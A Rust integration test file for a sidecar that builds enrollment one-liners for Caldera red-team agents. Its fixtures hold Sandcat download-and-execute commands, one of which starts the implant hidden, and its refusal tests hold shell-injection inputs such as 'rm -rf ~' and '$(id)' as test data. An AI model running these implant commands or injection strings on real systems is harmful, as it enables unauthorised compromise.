//! Enrollment one-liners and the agents view, through the real binary and the real HTTP server,
//! against the Caldera stub serving the recorded `deploy_commands.json` and `agents.json`.

mod support;

use std::process::{Command, Output};
use std::time::Duration;

use serde_json::{Value, json};
use support::app;
use support::caldera_stub::{AuthMethod, CalderaStub, RouteKind};
use support::scenarios::fixture;
use support::search::{unique_index, wait_for};

const BIN: &str = env!("CARGO_BIN_EXE_caldera-sidecar");
const PUBLIC: &str = "http://10.20.30.40:8888";

/// The recorded contact secrets (SSH tunnel password and key passphrase, Slack token, bot and
/// channel ids): none may appear in any output. Shorter ones (the FTP password is `caldera`)
/// are covered by [`marked_deploy_commands`].
fn recorded_config_values() -> Vec<String> {
    let dc = fixture("deploy_commands.json");
    let mut out = Vec::new();
    for (k, v) in dc["app_config"].as_object().unwrap() {
        let secret = ["pword", "password", "passphrase", "slack"]
            .iter()
            .any(|s| k.contains(s));
        if let Some(s) = v.as_str()
            && secret
            && s.len() >= 8
        {
            out.push(s.to_string());
        }
    }
    assert!(out.iter().any(|s| s == "s4ndc4t!"), "{out:?}");
    out
}

/// The recording with every secret replaced by a unique marker, so even short ones (the FTP
/// password is `caldera`) can be looked for.
fn marked_deploy_commands() -> (Value, Vec<String>) {
    let mut dc = fixture("deploy_commands.json");
    let mut marks = Vec::new();
    for (k, v) in dc["app_config"].as_object_mut().unwrap() {
        if [
            "pword",
            "password",
            "passphrase",
            "api_key",
            "user",
            "bot_id",
            "channel_id",
        ]
        .iter()
        .any(|s| k.contains(s))
        {
            let m = format!("SECRET-{}-MARK", k.replace('.', "-"));
            *v = json!(m);
            marks.push(m);
        }
    }
    assert!(marks.len() >= 6, "{marks:?}");
    (dc, marks)
}

fn sidecar(stub: &CalderaStub, extra: &[(&str, &str)]) -> Command {
    let mut c = Command::new(BIN);
    let dir = std::env::temp_dir();
    c.current_dir(dir)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("CALDERA_URL", stub.url())
        .env("CALDERA_USER", "admin")
        .env("CALDERA_PASSWORD", "admin-pass")
        .env("CLIENT_MAP", "acme_corp=acme,red=redteam")
        .env("CALDERA_PUBLIC_URL", PUBLIC);
    for (k, v) in extra {
        c.env(k, v);
    }
    c
}

async fn run(mut c: Command) -> Output {
    tokio::task::spawn_blocking(move || c.output().expect("binary runs"))
        .await
        .expect("join")
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn assert_no_secret(text: &str, secrets: &[String]) {
    for s in secrets {
        assert!(
            !text.contains(s.as_str()),
            "secret {s:?} leaked in:\n{text}"
        );
    }
}

async fn enroll_json(stub: &CalderaStub, args: &[&str], extra: &[(&str, &str)]) -> (Value, Output) {
    let mut c = sidecar(stub, extra);
    c.arg("enroll").args(args).args(["--format", "json"]);
    let o = run(c).await;
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let v: Value = serde_json::from_str(&stdout(&o)).expect("json on stdout");
    (v, o)
}

const PAIRS: [(&str, &str); 4] = [
    ("windows", "psh"),
    ("windows", "cmd"),
    ("linux", "sh"),
    ("darwin", "sh"),
];

/// A finished one-liner: one line, no placeholder, pointed at `server` and `group`.
fn assert_complete(cmd: &str, server: &str, group: &str) {
    assert!(!cmd.contains("#{"), "placeholder left: {cmd}");
    assert!(!cmd.contains('\n'), "not one line: {cmd}");
    assert!(cmd.contains(server), "server missing: {cmd}");
    assert!(
        cmd.contains(&format!("-group {group}")),
        "group missing: {cmd}"
    );
    assert_eq!(cmd.matches("-group").count(), 1, "{cmd}");
    assert!(cmd.contains("splunkd"), "implant name missing: {cmd}");
    assert!(cmd.contains("amd64"), "architecture missing: {cmd}");
    assert!(
        !cmd.contains("127.0.0.1"),
        "Caldera's loopback contact used: {cmd}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn builtin_templates_when_caldera_has_no_sandcat() {
    // The recording: only Ragdoll is a deployment ability (sandcat was not loaded).
    let stub = CalderaStub::start().await;
    let secrets = recorded_config_values();
    for (platform, executor) in PAIRS {
        let (v, o) = enroll_json(
            &stub,
            &[
                "--client",
                "acme",
                "--platform",
                platform,
                "--executor",
                executor,
            ],
            &[],
        )
        .await;
        assert_eq!(v["client"], "acme");
        assert_eq!(v["group"], "acme_corp", "reverse of CLIENT_MAP");
        assert_eq!(v["server"], PUBLIC);
        assert_eq!(v["implant_name"], "splunkd", "from Caldera's app_config");
        let cmds = v["commands"].as_array().unwrap();
        assert_eq!(cmds.len(), 1);
        assert_eq!(cmds[0]["source"], "builtin");
        assert_eq!(cmds[0]["executor"], executor);
        let cmd = cmds[0]["command"].as_str().unwrap();
        assert_complete(cmd, PUBLIC, "acme_corp");
        match executor {
            "psh" => assert!(
                cmd.starts_with("$server=\"http://10.20.30.40:8888\";"),
                "{cmd}"
            ),
            "cmd" => assert!(cmd.starts_with("curl.exe "), "{cmd}"),
            _ => assert!(
                cmd.starts_with("server=\"http://10.20.30.40:8888\";"),
                "{cmd}"
            ),
        }
        let why = if executor == "cmd" {
            "sandcat has no cmd.exe deploy command"
        } else {
            "no Sandcat deploy command"
        };
        assert!(stderr(&o).contains(why), "{}", stderr(&o));
        assert_no_secret(&stdout(&o), &secrets);
        assert_no_secret(&stderr(&o), &secrets);
    }
    // The deploy commands were read with the session, not the costly KEY.
    assert!(stub.count(Some(RouteKind::DeployCommands), Some(AuthMethod::Session)) >= 4);
    assert_eq!(stub.count(None, Some(AuthMethod::Key)), 0);
}

/// Caldera's answer with the sandcat plugin loaded: Sandcat entries in sandcat's own form
/// (placeholders, `-group red`), each with a marker header so the test sees which was used.
fn with_sandcat(mut dc: Value) -> Value {
    let linux = "server=\"#{app.contact.http}\";\ncurl -s -X POST -H \"file:sandcat.go\" -H \"platform:linux\" -H \"architecture:#{agents.architecture}\" -H \"from:caldera\" $server/file/download > #{agents.implant_name};\nchmod +x #{agents.implant_name};\n./#{agents.implant_name} -server $server -group red -v\n";
    let darwin = "server=\"#{app.contact.http}\";\ncurl -s -X POST -H \"file:sandcat.go\" -H \"platform:darwin\" -H \"architecture:#{agents.architecture}\" -H \"from:caldera\" $server/file/download > #{agents.implant_name};\nchmod +x #{agents.implant_name};\n./#{agents.implant_name} -server $server -v\n";
    let psh = "$server=\"#{app.contact.http}\";\n$url=\"$server/file/download\";\n$wc=New-Object System.Net.WebClient;\n$wc.Headers.add(\"platform\",\"windows\");\n$wc.Headers.add(\"architecture\",\"#{agents.architecture}\");\n$wc.Headers.add(\"from\",\"caldera\");\n$wc.Headers.add(\"file\",\"sandcat.go\");\n$data=$wc.DownloadData($url);\n[io.file]::WriteAllBytes(\"C:\\Users\\Public\\#{agents.implant_name}.exe\",$data) | Out-Null;\nStart-Process -FilePath C:\\Users\\Public\\#{agents.implant_name}.exe -ArgumentList \"-server $server -group red\" -WindowStyle hidden;\n";
    let abilities = dc["abilities"].as_array_mut().unwrap();
    for (platform, executor, command) in [
        ("darwin", "sh", darwin),
        ("linux", "sh", linux),
        ("windows", "psh", psh),
    ] {
        abilities.push(json!({
            "name": "Sandcat",
            "platform": platform,
            "executor": executor,
            "description": "Caldera's default agent, written in GoLang.",
            "command": command,
            "variations": [{"description": "Compile with extensions", "command": "#{agent.extensions}"}],
        }));
    }
    dc
}

#[tokio::test(flavor = "multi_thread")]
async fn caldera_deploy_commands_when_sandcat_is_loaded() {
    let stub = CalderaStub::start().await;
    let (dc, marks) = marked_deploy_commands();
    stub.set_deploy_commands(with_sandcat(dc));
    for (platform, executor) in PAIRS {
        let (v, o) = enroll_json(
            &stub,
            &[
                "--client",
                "globex",
                "--platform",
                platform,
                "--executor",
                executor,
            ],
            &[],
        )
        .await;
        // A client absent from CLIENT_MAP is its own group.
        assert_eq!(v["group"], "globex");
        let c = &v["commands"][0];
        let cmd = c["command"].as_str().unwrap();
        assert_complete(cmd, PUBLIC, "globex");
        if executor == "cmd" {
            // Sandcat has no cmd command: ours, said so.
            assert_eq!(c["source"], "builtin");
            assert!(!cmd.contains("from:caldera"));
        } else {
            assert_eq!(c["source"], "caldera", "{v}");
            assert!(
                cmd.contains("from:caldera") || cmd.contains("\"from\",\"caldera\""),
                "{cmd}"
            );
        }
        assert_no_secret(&stdout(&o), &marks);
        assert_no_secret(&stderr(&o), &marks);
    }
    // A Caldera command needing a value the sidecar does not fill (here a secret) is not used.
    let (dc, marks) = marked_deploy_commands();
    let mut dc = with_sandcat(dc);
    for a in dc["abilities"].as_array_mut().unwrap() {
        if a["platform"] == "linux" && a["name"] == "Sandcat" {
            a["command"] = json!(
                "sshpass -p #{app.contact.tunnel.ssh.user_password} ./#{agents.implant_name} -server #{app.contact.http} -group red"
            );
        }
    }
    stub.set_deploy_commands(dc);
    let (v, o) = enroll_json(&stub, &["--client", "acme", "--platform", "linux"], &[]).await;
    assert_eq!(v["commands"][0]["source"], "builtin");
    assert_complete(
        v["commands"][0]["command"].as_str().unwrap(),
        PUBLIC,
        "acme_corp",
    );
    assert!(
        stderr(&o).contains("app.contact.tunnel.ssh.user_password"),
        "{}",
        stderr(&o)
    );
    assert_no_secret(&stdout(&o), &marks);
    assert_no_secret(&stderr(&o), &marks);
}

#[tokio::test(flavor = "multi_thread")]
async fn text_output_server_override_and_caldera_down() {
    let stub = CalderaStub::start().await;
    // Windows without --executor: both shells, each with a comment in its own syntax.
    let mut c = sidecar(&stub, &[]);
    c.args(["enroll", "--client", "acme", "--platform", "windows"]);
    let o = run(c).await;
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = stdout(&o);
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 4, "{out}");
    assert!(
        lines[0].starts_with("# windows/psh: client acme, Caldera group acme_corp"),
        "{out}"
    );
    assert!(lines[2].starts_with("rem windows/cmd:"), "{out}");
    assert_complete(lines[1], PUBLIC, "acme_corp");
    assert_complete(lines[3], PUBLIC, "acme_corp");
    // --server wins over CALDERA_PUBLIC_URL.
    let (v, _) = enroll_json(
        &stub,
        &[
            "--client",
            "redteam",
            "--platform",
            "darwin",
            "--server",
            "https://caldera.example.org:8443",
        ],
        &[],
    )
    .await;
    assert_eq!(v["group"], "red");
    assert_complete(
        v["commands"][0]["command"].as_str().unwrap(),
        "https://caldera.example.org:8443",
        "red",
    );
    // Caldera unreachable: the built-in templates still work, and stderr says why.
    drop(stub);
    let dead = CalderaStub::start().await;
    let mut c = sidecar(&dead, &[("CALDERA_URL", "http://127.0.0.1:9")]);
    c.args(["enroll", "--client", "acme", "--platform", "linux"]);
    let o = run(c).await;
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(stderr(&o).contains("could not be read"), "{}", stderr(&o));
    assert_complete(stdout(&o).lines().nth(1).unwrap(), PUBLIC, "acme_corp");
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_input_is_refused_with_exit_2_and_nothing_on_stdout() {
    let stub = CalderaStub::start().await;
    // (arguments, extra environment, what the error must name)
    type Case<'a> = (Vec<&'a str>, Vec<(&'a str, &'a str)>, &'a str);
    let cases: Vec<Case> = vec![
        (
            vec!["--client", "acme\"; rm -rf ~; \"", "--platform", "linux"],
            vec![],
            "client",
        ),
        (
            vec!["--client", "$(id)", "--platform", "windows"],
            vec![],
            "client",
        ),
        (
            vec!["--client", "`id`", "--platform", "darwin"],
            vec![],
            "client",
        ),
        (
            vec![
                "--client",
                "%USERNAME%",
                "--platform",
                "windows",
                "--executor",
                "cmd",
            ],
            vec![],
            "client",
        ),
        (
            vec!["--client", "a b", "--platform", "linux"],
            vec![],
            "client",
        ),
        (
            vec!["--client", "", "--platform", "linux"],
            vec![],
            "client",
        ),
        (
            vec!["--client", "acme", "--platform", "linux; id"],
            vec![],
            "platform",
        ),
        (
            vec![
                "--client",
                "acme",
                "--platform",
                "linux",
                "--executor",
                "psh",
            ],
            vec![],
            "executor",
        ),
        (
            vec![
                "--client",
                "acme",
                "--platform",
                "windows",
                "--executor",
                "sh",
            ],
            vec![],
            "executor",
        ),
        (
            vec![
                "--client",
                "acme",
                "--platform",
                "linux",
                "--server",
                "http://$(id):8888",
            ],
            vec![],
            "server",
        ),
        (
            vec![
                "--client",
                "acme",
                "--platform",
                "linux",
                "--server",
                "http://h:8888/;id",
            ],
            vec![],
            "server",
        ),
        (
            vec![
                "--client",
                "acme",
                "--platform",
                "linux",
                "--server",
                "http://h:8888\"; id; \"",
            ],
            vec![],
            "server",
        ),
        (
            vec![
                "--client",
                "acme",
                "--platform",
                "linux",
                "--server",
                "file:///etc/passwd",
            ],
            vec![],
            "server",
        ),
        (
            vec![
                "--client",
                "acme",
                "--platform",
                "linux",
                "--format",
                "yaml",
            ],
            vec![],
            "--format",
        ),
        // A hostile group reached through CLIENT_MAP is refused too.
        (
            vec!["--client", "evil", "--platform", "linux"],
            vec![("CLIENT_MAP", "x$(id)=evil")],
            "group",
        ),
        // A bad CALDERA_PUBLIC_URL is a configuration error naming the key.
        (
            vec!["--client", "acme", "--platform", "linux"],
            vec![("CALDERA_PUBLIC_URL", "http://h:1;id")],
            "CALDERA_PUBLIC_URL",
        ),
        // No address at all: Caldera's own contact is loopback in the recording.
        (
            vec!["--client", "acme", "--platform", "linux"],
            vec![("CALDERA_PUBLIC_URL", "")],
            "CALDERA_PUBLIC_URL",
        ),
    ];
    for (args, env, names) in cases {
        let mut c = sidecar(&stub, &env);
        c.arg("enroll").args(&args);
        let o = run(c).await;
        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", stderr(&o));
        assert!(o.stdout.is_empty(), "{args:?}: stdout {:?}", stdout(&o));
        let err = stderr(&o);
        assert!(err.contains(names), "{args:?}: {err}");
        assert_eq!(err.trim_end().lines().count(), 1, "one clear line: {err}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn agents_view_and_exit_codes() {
    let stub = CalderaStub::start().await;
    // As recorded: both agents were last seen long ago, so Caldera's rule says dead.
    let mut c = sidecar(&stub, &[]);
    c.args(["agents"]);
    let o = run(c).await;
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = stdout(&o);
    assert!(out.starts_with("CLIENT "), "{out}");
    let acme = out
        .lines()
        .find(|l| l.starts_with("acme "))
        .expect("acme row");
    for cell in [
        "vm",
        "linux",
        "nnxppn",
        "nobody",
        "User",
        "2026-11-28T15:56:19Z",
        "dead",
    ] {
        assert!(acme.contains(cell), "{cell} missing: {acme}");
    }
    let red = out
        .lines()
        .find(|l| l.starts_with("redteam "))
        .expect("red row");
    for cell in ["lktrus", "root", "Elevated", "2026-11-28T15:56:28Z", "dead"] {
        assert!(red.contains(cell), "{cell} missing: {red}");
    }
    let mut c = sidecar(&stub, &[]);
    c.args(["agents", "--client", "acme"]);
    let o = run(c).await;
    assert_eq!(o.status.code(), Some(1), "no live agent: {}", stderr(&o));
    assert!(stderr(&o).contains("no live agent"), "{}", stderr(&o));

    // The acme agent beacons again: alive until sleep_max (60) + untrusted_timer (90) pass.
    let mut agents = fixture("agents.json");
    let fmt = time::macros::format_description!("[year]-[month]-[day]T[hour]:[minute]:[second]Z");
    let now = time::OffsetDateTime::now_utc();
    agents[1]["last_seen"] = json!((now - time::Duration::seconds(100)).format(&fmt).unwrap());
    agents[0]["last_seen"] = json!((now - time::Duration::seconds(100)).format(&fmt).unwrap());
    stub.set_agents(agents);
    let mut c = sidecar(&stub, &[]);
    c.args(["agents", "--client", "acme", "--format", "json"]);
    let o = run(c).await;
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let rows: Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(rows.as_array().unwrap().len(), 1, "{rows}");
    assert_eq!(rows[0]["paw"], "nnxppn");
    assert_eq!(rows[0]["group"], "acme_corp");
    assert_eq!(rows[0]["alive"], true);
    assert_eq!(rows[0]["status"], "alive");
    // lktrus sleeps at most 5 s: 100 s of silence is more than 5 + 90, so it is dead.
    let mut c = sidecar(&stub, &[]);
    c.args(["agents", "--client", "red", "--format", "json"]);
    let o = run(c).await;
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let rows: Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(rows[0]["status"], "dead");
    let mut c = sidecar(&stub, &[]);
    c.args(["agents", "--client", "$(id)"]);
    let o = run(c).await;
    assert_eq!(o.status.code(), Some(2));
    assert!(o.stdout.is_empty());
    assert_eq!(stub.count(None, Some(AuthMethod::Key)), 0);
}

async fn get(addr: std::net::SocketAddr, path: &str, key: Option<&str>) -> (u16, String) {
    let mut req = reqwest::Client::builder()
        .no_proxy()
        .build()
        .unwrap()
        .get(format!("http://{addr}{path}"));
    if let Some(k) = key {
        req = req.header("X-API-Key", k);
    }
    let resp = req.send().await.expect("answer");
    let code = resp.status().as_u16();
    (code, resp.text().await.unwrap())
}

#[tokio::test(flavor = "multi_thread")]
async fn enroll_endpoint_with_key_and_rate_limit() {
    let stub = CalderaStub::start().await;
    let (dc, marks) = marked_deploy_commands();
    stub.set_deploy_commands(dc);
    let index = unique_index("enroll-http");
    let key = "enroll-test-key-7f3a";
    let env = app::test_env(
        &stub.url(),
        &index,
        &[
            ("ENABLE_API_AUTH", "true"),
            ("API_KEY", key),
            ("MAX_REQUESTS_PER_MINUTE", "12"),
            ("CLIENT_MAP", "acme_corp=acme"),
            ("CALDERA_PUBLIC_URL", PUBLIC),
        ],
    );
    let r = app::start(&env).await;
    let addr = r.health_addr;
    let path = "/api/v2/enroll?client=acme&platform=windows&executor=psh";
    let (code, body) = get(addr, path, None).await;
    assert_eq!((code, body.as_str()), (401, "{\"error\":\"unauthorized\"}"));
    let (code, body) = get(addr, path, Some(key)).await;
    assert_eq!(code, 200, "{body}");
    let v: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v["group"], "acme_corp");
    assert_eq!(v["commands"][0]["executor"], "psh");
    assert_complete(
        v["commands"][0]["command"].as_str().unwrap(),
        PUBLIC,
        "acme_corp",
    );
    assert_no_secret(&body, &marks);
    // Same answer as the command line.
    let mut c = sidecar(&stub, &[("CLIENT_MAP", "acme_corp=acme")]);
    c.args([
        "enroll",
        "--client",
        "acme",
        "--platform",
        "windows",
        "--executor",
        "psh",
        "--format",
        "json",
    ]);
    let cli: Value = serde_json::from_str(&stdout(&run(c).await)).unwrap();
    assert_eq!(cli, v);
    for (bad, reason) in [
        ("/api/v2/enroll?client=acme", "required"),
        ("/api/v2/enroll?client=%24(id)&platform=linux", "client"),
        ("/api/v2/enroll?client=acme&platform=plan9", "platform"),
        (
            "/api/v2/enroll?client=acme&platform=linux&executor=cmd",
            "executor",
        ),
        (
            "/api/v2/enroll?client=acme&platform=linux&server=http://x:1",
            "unknown parameter",
        ),
        (
            "/api/v2/enroll?client=acme&client=b&platform=linux",
            "twice",
        ),
    ] {
        let (code, body) = get(addr, bad, Some(key)).await;
        assert_eq!(code, 400, "{bad}: {body}");
        let v: Value = serde_json::from_str(&body).unwrap();
        assert!(
            v["error"].as_str().unwrap().contains(reason),
            "{bad}: {body}"
        );
    }
    // Deploy commands are cached: one Caldera read for all those answers.
    assert_eq!(
        stub.count(Some(RouteKind::DeployCommands), None),
        2,
        "one for the server, one for the CLI"
    );
    // The endpoint shares the budget of the other endpoints.
    let mut limited = false;
    for _ in 0..12 {
        if get(addr, path, Some(key)).await.0 == 429 {
            limited = true;
            break;
        }
    }
    assert!(limited, "rate limit applies to /api/v2/enroll");
    app::stop(r).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn health_and_metrics_count_live_agents_per_client() {
    let stub = CalderaStub::start().await;
    let mut agents = fixture("agents.json");
    let fmt = time::macros::format_description!("[year]-[month]-[day]T[hour]:[minute]:[second]Z");
    let now = time::OffsetDateTime::now_utc();
    // nnxppn (acme_corp) fresh; lktrus (red) as recorded, long dead.
    agents[1]["last_seen"] = json!(now.format(&fmt).unwrap());
    stub.set_agents(agents);
    let index = unique_index("agents-health");
    let env = app::test_env(
        &stub.url(),
        &index,
        &[
            ("CLIENT_MAP", "acme_corp=acme,blue=globex"),
            ("AGENTS_POLL_INTERVAL", "1"),
        ],
    );
    let r = app::start(&env).await;
    let health = wait_for(Duration::from_secs(20), "first agents read", || async {
        let (_, h) = app::health(&r).await;
        (h["checks"]["agents"]["last_read_seconds_ago"].is_u64()).then_some(h)
    })
    .await;
    let a = &health["checks"]["agents"];
    assert_eq!(a["status"], "ok", "{a}");
    assert_eq!(a["clients"]["acme"], json!({"live": 1, "total": 1}), "{a}");
    assert_eq!(a["clients"]["red"], json!({"live": 0, "total": 1}), "{a}");
    assert_eq!(
        a["clients"]["globex"],
        json!({"live": 0, "total": 0}),
        "{a}"
    );
    assert_eq!(a["live"], 1);
    let (code, text) = get(r.health_addr, "/metrics", None).await;
    assert_eq!(code, 200);
    assert!(
        text.contains("caldera_sidecar_agents_live{client=\"acme\"} 1\n"),
        "{text}"
    );
    assert!(
        text.contains("caldera_sidecar_agents_live{client=\"red\"} 0\n"),
        "{text}"
    );
    assert!(
        text.contains("caldera_sidecar_agents_live{client=\"globex\"} 0\n"),
        "{text}"
    );
    assert!(
        text.contains("caldera_sidecar_agents{client=\"red\"} 1\n"),
        "{text}"
    );
    // The agent goes silent: after sleep_max + untrusted_timer it no longer counts.
    let mut agents = fixture("agents.json");
    agents[1]["last_seen"] = json!((now - time::Duration::seconds(151)).format(&fmt).unwrap());
    stub.set_agents(agents);
    wait_for(
        Duration::from_secs(20),
        "acme's agent counted dead",
        || async {
            let (_, h) = app::health(&r).await;
            (h["checks"]["agents"]["clients"]["acme"]["live"] == 0).then_some(())
        },
    )
    .await;
    // Read with the session, never the KEY header.
    assert!(stub.count(Some(RouteKind::Agents), Some(AuthMethod::Session)) >= 2);
    assert_eq!(stub.count(None, Some(AuthMethod::Key)), 0);
    app::stop(r).await;
}
